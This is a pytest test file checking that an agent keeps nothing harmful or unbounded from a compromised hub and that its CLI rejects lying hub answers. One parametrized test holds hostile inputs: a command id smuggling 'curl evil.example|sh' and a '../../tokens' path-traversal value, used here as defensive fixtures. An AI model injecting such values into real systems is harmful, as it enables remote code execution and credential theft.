"""A hub that was stolen leaves nothing in an agent that keeps it from the next hub, and fills no memory (V1, V16)."""

from __future__ import annotations

import asyncio
import base64
import json
import pickle
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from typer.testing import CliRunner

import hub.audit.service as log_service
from agent.audit.interfaces import Entry
from agent.link import listed
from agent.link.channels import MAX_MESSAGE
from agent.link.content import HubContent
from agent.link.desired import HUB_EPOCH
from agent.link.outgoing import MAX_RESULTS, Outgoing
from agent.link.session import Session, SessionHooks
from cellward.audit.vkey import format_vkey
from cellward.identity.keys import spki_of
from cellward.runtime.clock import SystemClock
from cellward.wire.bounds import MAX_CHECKPOINT, MAX_HELLO_TEXT
from cellward.wire.codec import MAX_CARRIED, DesiredItem, row_from_wire
from cellward.wire.v1 import link_pb2
from cli.commands import app
from hub.audit.port import AuditIngest
from hub.audit.service import AuditLog
from hub.sync.limits import SyncLimits
from tests.fakes.answering_hub import answering_hub
from tests.fakes.authority import REALM
from tests.fakes.linked_agent import LinkedAgent, until
from tests.fakes.ports import FakeLinkHub
from tests.fakes.store import scratch_store

FIRST = DesiredItem(0, "shop", "a", "dev", "sha256:" + "1" * 64)
SECOND = DesiredItem(0, "shop", "b", "dev", "sha256:" + "2" * 64)
_JUNK = "".join(f"\u2014 w{number} {base64.b64encode(b'z' * 60).decode()}\n" for number in range(60)).encode()


def _hub() -> FakeLinkHub:
    clock = SystemClock()
    made = FakeLinkHub(clock, SyncLimits(recheck=0.1, heartbeat=0.2))
    log = AuditLog(scratch_store(clock).audit, made.hub.keys.tree_head, lambda: REALM, clock)
    made.ports = replace(made.ports, audit=AuditIngest(log, made.hub.clusters.get, made))
    made.log_origin = format_vkey(log.origin, spki_of(made.hub.keys.tree_head))
    return made


@pytest.fixture
def stolen_log(monkeypatch: pytest.MonkeyPatch) -> Iterator[pytest.MonkeyPatch]:
    """Have every head signed by sixty strangers as well, until the patch is undone."""
    honest = log_service.sign_checkpoint
    monkeypatch.setattr(log_service, "sign_checkpoint", lambda head, key: honest(head, key) + _JUNK)
    yield monkeypatch
    monkeypatch.undo()


async def _agent(directory: Path, hub: FakeLinkHub) -> LinkedAgent:
    token = await hub.invite("eu-1")
    return LinkedAgent(directory, REALM, hub.enrolment.address, hub.hub.authority.hub_ca_pem, token)


async def _goes_on(agent: LinkedAgent, hub: FakeLinkHub) -> None:
    hub.fleet.put("eu-1", SECOND)
    async with agent.boot():
        await until(lambda: "b" in [item.cell for item in agent.ports.items], "the honest hub is heard")


@pytest.mark.parametrize("other", [False, True], ids=["the same hub, cleaned", "another hub"])
async def test_v1_an_epoch_no_hub_takes_is_not_taken_from_one(tmp_path: Path, *, other: bool) -> None:
    """The agent repeats it in each Hello: kept, it would be refused by every honest hub for ever."""
    old, new = _hub(), _hub()
    async with old.running(), new.running():
        agent, honest = await _agent(tmp_path, old), old.hub_epoch
        old.hub_epoch = "x" * (MAX_HELLO_TEXT + 1)
        async with agent.boot():
            await until(lambda: "longer than any hub takes" in str(agent.condition("hub-link")), "the hub is refused")
            assert await agent.db.meta.get(HUB_EPOCH) is None
        old.hub_epoch = honest
        if other:
            _moved(agent, tmp_path, new, await new.invite("eu-1"))
        await _goes_on(agent, new if other else old)


def _moved(agent: LinkedAgent, directory: Path, hub: FakeLinkHub, token: str) -> None:
    agent.enrolment_address, agent.hub_ca_pem, agent.token = hub.enrolment.address, hub.hub.authority.hub_ca_pem, token
    (directory / "token").write_text(token)


async def test_v13_signatures_of_strangers_are_not_kept_with_a_checkpoint(
    tmp_path: Path, stolen_log: pytest.MonkeyPatch
) -> None:
    """A genuine head with sixty more signatures: the agent keeps the log's own, and repeats no more than that."""
    hub = _hub()
    async with hub.running():
        agent = await _agent(tmp_path, hub)
        async with agent.boot():
            await until(agent.is_ok("hub-link"), "the link is up")
            await agent.recorder.record(Entry("cell.apply", "Cell//x", "done"))
            async with asyncio.timeout(30):
                while await agent.db.audit.depth():
                    await asyncio.sleep(0.01)
            view = await agent.db.audit.log_view()
            assert 0 < len(view.note) < MAX_CHECKPOINT
            assert view.note.count("\u2014".encode()) == 1
        stolen_log.undo()
        await _goes_on(agent, hub)


async def test_v1_an_agent_that_kept_too_much_is_let_in_again(tmp_path: Path) -> None:
    """What an earlier version took stays out of Hello."""
    hub = _hub()
    async with hub.running():
        agent = await _agent(tmp_path, hub)
        async with agent.boot():
            await until(agent.is_ok("hub-link"), "the link is up")
            await agent.db.meta.set({HUB_EPOCH: "x" * (MAX_HELLO_TEXT + 1)})
        await _goes_on(agent, hub)


def test_v16_what_is_carried_is_kept_by_a_digest_and_nothing_longer() -> None:
    """Names of megabytes beside documents of one byte."""
    content = HubContent(SimpleNamespace())  # type: ignore[arg-type]  # nothing is fetched
    digests = ["x" * 100_000, "sha256:" + "g" * 64, "", "sha256:" + "1" * 64]
    content.carry([link_pb2.CarriedDocument(digest=digest, envelope=b"x") for digest in digests])
    content.carry([link_pb2.CarriedDocument(digest="sha256:" + "2" * 64, envelope=b"x" * (MAX_CARRIED + 1))])
    assert list(content._carried) == ["sha256:" + "1" * 64]


def test_v16_names_of_items_nobody_can_use_fill_no_memory() -> None:
    """As many and as long as a hub likes: what is kept of them is bounded, and each costs as little as the first."""
    state, _ = listed.step(listed.State(), listed.Welcomed(1, 0, "e"))
    for number in range(2_000):
        message = link_pb2.DesiredItem(revision=number, project=f"{number}-{'P' * 5_000}", cell="c", environment="dev")
        event = listed.NamedUnusable(1, row_from_wire(message), "wire/bad-message", "no", message.ByteSize(), "")
        state, _ = listed.step(state, event)
    heard = state.heard
    assert heard is not None
    assert len(heard.listed) <= listed.Bounds().unusable
    assert len(pickle.dumps(state)) < listed.Bounds().unusable * listed.Bounds().unusable_bytes + MAX_MESSAGE


class _Outbox:
    async def pending(self) -> tuple[()]:
        return ()


@pytest.mark.parametrize("acknowledged", [True, False])
async def test_v16_refused_commands_fill_no_memory(*, acknowledged: bool) -> None:
    """Of results that went up nothing stays, and a hub that acknowledges none gets no more of them."""
    outgoing = Outgoing(_Outbox())  # type: ignore[arg-type]  # there are no receipts
    session: Any = Session(
        SimpleNamespace(stream_stream=lambda *_, **__: None),  # type: ignore[arg-type]  # nothing is opened
        SessionHooks(*[None] * 8),  # type: ignore[arg-type]  # nor asked
        outgoing,
        SystemClock(),
        heartbeat=60,
        status_interval=15,
    )

    async def write(_: object) -> None:
        pass

    session._call = SimpleNamespace(write=write)
    for number in range(4 * MAX_RESULTS):
        outgoing.add_result(link_pb2.CommandResult(id=f"c-{number}"))
        await session._flush()
        if acknowledged:
            await session._acknowledged(session._sent)
    kept = len(session._flight.results) + len(session._flight.results_sent)
    assert kept == 0 if acknowledged else kept <= 2 * MAX_RESULTS


@pytest.mark.parametrize("lie", [{"id": "a1; curl evil.example|sh"}, {"id": "b-other-1"}, {"cluster": "../../tokens"}])
@pytest.mark.parametrize("timeout", ["0", "1"])
def test_what_a_person_types_next_is_not_the_hubs_to_choose(tmp_path: Path, lie: dict[str, str], timeout: str) -> None:
    """A command's id is shown to be typed again, and is asked for: it is the one that was given."""
    asked: list[str] = []

    def answer(_: str, path: str) -> tuple[int, bytes]:
        asked.append(path)
        honest = {"id": "mine-12345", "cluster": "eu-1", "kind": "renew", "state": "waiting"}
        return 200, json.dumps({**honest, **lie}).encode()

    with answering_hub(answer) as hub:
        home = tmp_path / "home"
        hub.log_in(home)
        words = [
            "clusters",
            "command",
            "eu-1",
            "renew",
            "--id",
            "mine-12345",
            "--home",
            str(home),
            "--timeout",
            timeout,
        ]
        done = CliRunner().invoke(app, words)
    assert done.exit_code != 0
    assert "[cli/bad-answer]" in done.stderr
    assert "look again" not in done.stderr
    assert asked == ["/v1/clusters/eu-1/commands"]
